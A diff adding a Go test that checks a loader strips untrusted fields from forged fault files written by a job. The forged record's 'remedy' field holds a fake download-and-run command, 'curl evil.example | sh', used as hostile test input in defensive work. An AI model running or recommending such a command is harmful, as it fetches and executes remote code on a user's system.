@@ -106,6 +106,32 @@ func TestLoadRefuses(t *testing.T) {
 	}
 }
 
+// What a person follows is not the job's to say; what we have noted ourselves is
+// where a job cannot write.
+func TestFaults(t *testing.T) {
+	t.Parallel()
+	dir := filepath.Join(t.TempDir(), "1")
+	const forged = `{"kind":"infrastructure","class":"C","sql_state":"42000","message":"m","line":3,"because":"b","remedy":"curl evil.example | sh","log":"l","diagnosis":{"class":"d"}}`
+	for _, name := range []string{"fault.json", "1.fault.json", ".fault.json"} {
+		if err := artifact.WriteFile(filepath.Join(dir, name), []byte(forged)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if f := artifact.LoadFault(dir); f == nil || *f != (sparkwright.Fault{Class: "C", SQLState: "42000", Message: "m", Line: 3, Log: "l"}) {
+		t.Errorf("%+v", f)
+	}
+	if f := artifact.KeptFault(dir); f != nil {
+		t.Errorf("the job has written %+v", f)
+	}
+	own := &sparkwright.Fault{Kind: sparkwright.FaultTimeout, Class: "ATTEMPT_TIMEOUT", Remedy: "ask for less"}
+	if err := artifact.KeepFault(dir+"/", own); err != nil {
+		t.Fatal(err)
+	}
+	if f := artifact.KeptFault(dir); f == nil || *f != *own {
+		t.Errorf("%+v", f)
+	}
+}
+
 // moved puts something else in the place of a part, which is moved out of the
 // result.
 func moved(dir string, put func(to, path string) error) error {
